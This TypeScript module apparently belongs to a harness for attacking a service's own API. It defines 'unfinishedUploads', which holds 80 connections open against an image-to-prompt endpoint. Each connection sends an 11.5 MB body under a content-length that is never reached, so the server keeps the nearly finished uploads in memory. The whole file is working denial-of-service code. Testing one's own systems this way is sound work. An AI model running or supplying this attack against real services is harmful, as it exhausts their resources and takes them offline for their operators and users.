import type { AttackReport, AttackTarget } from './attack.ts'
import { keepConnections, requestHead } from './open-attack-connection.ts'

const connections = 80
const bodyBytes = 11_500_000
const body = Buffer.concat([Buffer.from('{"image_base64":"'), Buffer.alloc(bodyBytes, 'A')])

/** Uploads of an image that all but end: the service has nearly all of their bytes and can do nothing with them. */
export function unfinishedUploads(target: AttackTarget): Promise<AttackReport> {
  return keepConnections(target, connections, (socket) => {
    const headers = { 'content-length': String(body.length + 1000), authorization: `Bearer ${target.key}` }
    socket.write(requestHead('/api/v1/prompts/image-to-prompt', headers))
    socket.write(body)
  })
}
